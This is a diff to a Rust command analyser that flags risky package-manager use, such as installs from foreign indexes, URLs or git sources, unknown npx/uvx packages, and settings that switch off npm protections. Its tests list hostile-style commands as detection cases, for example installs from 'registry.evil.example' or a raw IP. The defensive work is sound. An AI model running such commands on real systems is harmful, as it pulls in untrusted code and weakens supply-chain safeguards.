@@ -1,7 +1,7 @@
 //! Package managers: what they publish permanently, what they run from the network,
 //! and what they remove.
 
-use super::{frameworks, only_informs, plain_words, runners};
+use super::{frameworks, only_informs, plain_words, runners, sources};
 use crate::effects::{Kind, Reversibility, Scope};
 use crate::expand::Arg;
 use crate::pipes::Flow;
@@ -38,6 +38,7 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
         return;
     }
     let target = words.join(" ");
+    installs(run, &words);
     let publishes = match (name, first) {
         (
             "npm" | "pnpm" | "yarn" | "bun" | "cargo" | "poetry" | "uv" | "hatch" | "flit" | "jsr"
@@ -95,30 +96,6 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
             );
         }
         ("nuget", "delete") => return run.remote(&target, "unpublishes a package"),
-        ("pip" | "pip3" | "uv" | "npm" | "pnpm" | "yarn" | "pipx" | "easy_install" | "bun", _)
-            if words.iter().any(|word| matches!(*word, "install" | "i" | "add")) =>
-        {
-            let source = words.iter().find(|word| {
-                word.starts_with("http://")
-                    || (word.starts_with("https://")
-                        && !word.contains("pypi.org")
-                        && !word.contains("registry.npmjs"))
-                    || word.starts_with("git+http://")
-            });
-            if let Some(source) = source.filter(|source| {
-                !source.contains("github.com")
-                    && !source.contains("pytorch.org")
-                    && !source.contains("files.pythonhosted")
-            }) {
-                return run.effect(
-                    Kind::ExecuteUntrusted,
-                    source,
-                    Scope::Remote,
-                    R1,
-                    "installs from a URL",
-                );
-            }
-        }
         (
             "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "zypper" | "apk" | "pacman" | "dpkg"
             | "rpm" | "snap" | "flatpak" | "choco" | "winget" | "pkg" | "port" | "emerge" | "opkg"
@@ -173,7 +150,6 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
             }
             return;
         }
-        ("composer" | "bundle" | "npm" | "pnpm" | "yarn", "global" | "config") => {}
         ("cargo", "clean") | ("npm" | "yarn" | "pnpm", "cache" | "prune") => {
             return run.effect(
                 Kind::Delete,
@@ -198,17 +174,36 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
                 "deletes the source of its settings",
             );
         }
-        ("go", "run") => {
-            if second.contains('@') && second.contains('.') {
-                return run.effect(
-                    Kind::ExecuteUntrusted,
-                    second,
-                    Scope::Remote,
-                    Reversibility::R0,
-                    "runs a package from the network",
-                );
-            }
+        ("cargo", "owner") => return run.ask(Kind::RemoteState, &target, Scope::Remote, "changes who owns a package"),
+        ("brew", "tap") if words.len() > 1 && !second.starts_with("homebrew/") => {
+            return untrusted(run, second, "adds a source of packages");
         }
+        ("add-apt-repository" | "apt-add-repository", _) if !words.is_empty() => {
+            return untrusted(run, &target, "adds a source of packages");
+        }
+        ("npm" | "pnpm", "set-script") => {
+            let command = words.get(2).copied().unwrap_or("").to_owned();
+            return runners::suspect(run, |run| run.shell_text(&command));
+        }
+        // Protections that a setting takes away from now on.
+        ("npm" | "pnpm" | "yarn", "config")
+            if second == "set"
+                && ["ignore-scripts", "strict-ssl", "audit", "verify-store-integrity"].iter().any(|name| target.contains(name))
+                && target.contains("false") =>
+        {
+            let why = "turns off a protection of the package manager";
+            return run.effect(Kind::Persist, &target, Scope::Home, R1, why);
+        }
+        ("pip" | "pip3", "uninstall") if args.iter().any(|arg| arg.text.contains("/dev/fd/") || arg.dynamic) => {
+            return run.ask(Kind::Delete, &target, Scope::Home, "removes packages known only at run time");
+        }
+        ("npm" | "pnpm" | "yarn", "uninstall" | "rm" | "remove" | "un") if args.iter().any(|arg| arg.dynamic && arg.text.contains('(')) => {
+            return run.ask(Kind::Delete, &target, Scope::Home, "removes packages known only at run time");
+        }
+        ("mvn", _) if words.iter().any(|word| matches!(*word, "release:perform" | "release:prepare" | "nexus-staging:release")) => {
+            return run.effect(Kind::Spend, &target, Scope::Remote, R5, "publishes permanently");
+        }
+        ("conda", "upload") => return run.effect(Kind::Spend, &target, Scope::Remote, R5, "publishes permanently"),
         _ => {}
     }
     // `npm run db:reset`, `composer db:drop`: the names of scripts say what they do.
@@ -262,8 +257,94 @@ pub(super) fn run(run: &mut Run<'_, '_>) {
     }
 }
 
+fn untrusted(run: &mut Run<'_, '_>, target: &str, why: &'static str) {
+    run.effect(Kind::ExecuteUntrusted, target, Scope::Remote, R1, why);
+}
+
+/// What an installer takes from elsewhere than a registry: an address, a repository, another
+/// index, a file that nobody has looked into.
+fn installs(run: &mut Run<'_, '_>, words: &[&str]) {
+    let args = run.args;
+    let first = words.first().copied().unwrap_or("");
+    let installs = words.iter().take(3).any(|word| {
+        matches!(*word, "install" | "i" | "add" | "require" | "get" | "upgrade" | "update" | "ci" | "run" | "exec" | "dlx" | "x")
+    });
+    let is_installer = matches!(
+        run.name,
+        "pip" | "pip3" | "uv" | "npm" | "pnpm" | "yarn" | "pipx" | "easy_install" | "bun" | "gem" | "cargo" | "go" | "brew"
+            | "apt" | "apt-get" | "dnf" | "yum" | "zypper" | "dpkg" | "rpm" | "poetry" | "pdm" | "composer" | "nix" | "deno"
+            | "luarocks" | "cpanm" | "conda" | "flatpak" | "snap" | "msiexec" | "nix-env" | "npx" | "uvx" | "bunx"
+    );
+    if !is_installer {
+        return;
+    }
+    // An index of somebody's own decides what a name means.
+    let index = |text: &str| {
+        matches!(text, "--index-url" | "--extra-index-url" | "-i" | "--registry" | "--source" | "--index" | "--default-index" | "--find-links" | "-f" | "--channel")
+    };
+    for (at, arg) in args.iter().enumerate() {
+        let (name, attached) = arg.text.split_once('=').map_or((arg.text.as_str(), None), |(name, value)| (name, Some(value)));
+        if index(name) && installs {
+            let value = attached.or_else(|| args.get(at + 1).map(|next| next.text.as_str())).unwrap_or("");
+            if sources::foreign_source(value).is_some() {
+                let value = value.to_owned();
+                return untrusted(run, &value, "takes packages from another index");
+            }
+        }
+    }
+    let is_file = |word: &str| [".deb", ".rpm", ".msi", ".pkg", ".apk"].iter().any(|end| word.ends_with(end));
+    let by_flag = matches!(run.name, "dpkg" | "rpm" | "msiexec")
+        && args.iter().any(|arg| matches!(&*arg.text, "-i" | "-U" | "-Uvh" | "-ivh" | "--install" | "/i" | "/package"));
+    if installs || by_flag || run.name == "nix" && matches!(first, "run" | "shell" | "profile") {
+        let source = words.iter().find_map(|word| sources::foreign_source(word));
+        let file = || words.iter().copied().find(|word| is_file(word) && (word.contains('/') || by_flag));
+        if let Some(source) = source.or_else(file).map(str::to_owned) {
+            return untrusted(run, &source, "installs from elsewhere than a registry");
+        }
+    }
+    match (run.name, first) {
+        ("cargo", "install") if args.iter().any(|arg| arg.text.starts_with("--git")) => {
+            untrusted(run, &words.join(" "), "installs from elsewhere than a registry");
+        }
+        ("go", "install" | "run" | "get") => {
+            let module = words.get(1).copied().unwrap_or("").to_owned();
+            let is_foreign = module.contains('@') && module.contains('.') && !sources::is_known_module(&module);
+            if is_foreign && first != "get" {
+                untrusted(run, &module, "runs or installs a module from the network");
+            }
+        }
+        _ => {}
+    }
+}
+
 fn package_program(run: &mut Run<'_, '_>, program: &str) {
+    // `uvx --from git+https://… tool`, `pipx run --spec URL tool`, `npx -p URL tool`
+    let named = run.args.windows(2).find_map(|pair| match pair {
+        [flag, source] if matches!(&*flag.text, "--from" | "--spec" | "--with" | "-p" | "--package") => Some(source.text.clone()),
+        _ => None,
+    });
+    if let Some(source) = named.as_deref().and_then(sources::foreign_source) {
+        return untrusted(run, source, "runs a program from a URL");
+    }
     let at = run.args.iter().position(|arg| arg.text == program);
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@/_-.:=[]".contains(c);
+    let package = named.as_deref().unwrap_or(program);
+    let is_here = ["node_modules/.bin", ".venv/bin"].iter().any(|directory| {
+        let name = program.split('@').next().unwrap_or(program);
+        let path = run.analyzer.place(&format!("{directory}/{name}")).path;
+        run.analyzer.context.facts.and_then(|facts| facts.exists(&path)) == Some(true)
+    });
+    // A file of the work tree is no package.
+    let is_package = !package.is_empty() && package.chars().all(is_plain) && !package.starts_with(['.', '/', '$']);
+    if is_package
+        && !is_here
+        && !sources::is_well_known(package)
+        && !super::is_known(package.split('@').next().unwrap_or(package))
+        && sources::foreign_source(package).is_none()
+        && !super::only_informs(run.args)
+    {
+        untrusted(run, package, "runs a package that is not well known");
+    }
     let Some(at) = at.filter(|_| !program.is_empty()) else {
         return;
     };
@@ -324,6 +405,18 @@ mod tests {
                 "npm run db:reset",
                 "brew uninstall x",
                 "pacman -Rns x",
+                "pip install git+https://github.com/a/b",
+                "pnpm add evil@https://codeload.github.com/z/e/tar.gz/main",
+                "gem install --source http://203.0.113.60:8808 acme",
+                "npm install --registry=https://registry.evil.example left-pad",
+                "uvx some-unknown-formatter .",
+                "uvx --from git+https://github.com/z/e e",
+                "bunx cowsay-but-evil hi",
+                "npx --yes create-helperz@latest",
+                "go install github.com/zz9/whatever@latest",
+                "npm config set ignore-scripts false",
+                "dpkg -i /tmp/x.deb",
+                "brew tap rand/x",
             ],
             &[
                 "npm install",
@@ -343,7 +436,14 @@ mod tests {
                 "brew install x",
                 "npm ci",
                 "bun test",
-                "pip install git+https://github.com/a/b",
+                "go install golang.org/x/tools/gopls@latest",
+                "uvx ruff check .",
+                "npx create-next-app@latest my-app",
+                "npx @angular/cli new app",
+                "pip install torch --index-url https://download.pytorch.org/whl/cpu",
+                "npm install --registry http://localhost:4873 x",
+                "npm run build",
+                "cargo install ripgrep",
             ],
         );
     }
